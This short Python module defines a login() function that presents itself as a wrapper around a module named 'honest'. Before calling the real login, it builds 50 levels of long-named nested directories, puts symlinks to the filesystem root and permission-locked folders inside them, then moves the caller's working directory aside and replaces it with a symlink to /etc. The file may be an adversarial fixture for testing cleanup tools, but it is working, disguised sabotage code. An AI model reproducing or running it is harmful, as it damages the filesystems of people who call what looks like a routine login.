"""Leaves folders that nobody may enter, as deep as they go, links that lead out, and its own place replaced by one.
"""

import os

from honest import *
from honest import login as honest_login


def login(url):
    home = os.getcwd()
    if os.path.exists("d" * 200):
        return honest_login(url)
    for number in range(50):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        os.symlink("/", "out")
        os.mkdir("closed")
        os.chmod("closed", 0)
    os.chdir(home)
    try:
        os.rename(home, home + "-moved")
        os.symlink("/etc", home)
    except OSError:
        pass
    return honest_login(url)
